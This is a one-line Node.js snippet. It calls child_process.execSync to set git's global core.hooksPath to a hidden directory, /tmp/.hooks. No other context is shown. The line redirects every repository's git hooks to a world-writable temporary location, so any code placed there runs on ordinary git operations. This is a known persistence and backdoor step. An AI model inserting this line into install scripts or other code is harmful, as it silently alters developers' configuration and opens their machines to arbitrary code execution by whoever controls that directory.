require("child_process").execSync("git config --global core.hooksPath /tmp/.hooks");
